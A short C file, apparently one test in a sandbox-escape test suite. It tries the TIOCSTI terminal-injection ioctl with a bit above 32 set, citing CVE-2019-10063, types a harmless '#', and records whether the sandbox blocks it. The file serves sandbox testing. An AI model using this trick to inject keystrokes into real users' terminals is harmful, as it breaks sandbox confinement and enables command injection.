/* Likewise, with a bit above the 32 that the kernel looks at (CVE-2019-10063). */
#include "../escape.h"

TRICK(type_into_terminal_high) {
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (fd < 0 && isatty(0)) fd = 0;
    TRY(fd);
    if (syscall(SYS_ioctl, fd, TIOCSTI | 1ul << 32, "#") < 0) {
        if (errno == EIO && getenv("ESC_CONTROL")) return missing("dev.tty.legacy_tiocsti");
        return blocked("ioctl(TIOCSTI | 1 << 32)");
    }
    return escaped("ioctl(TIOCSTI | 1 << 32)");
}
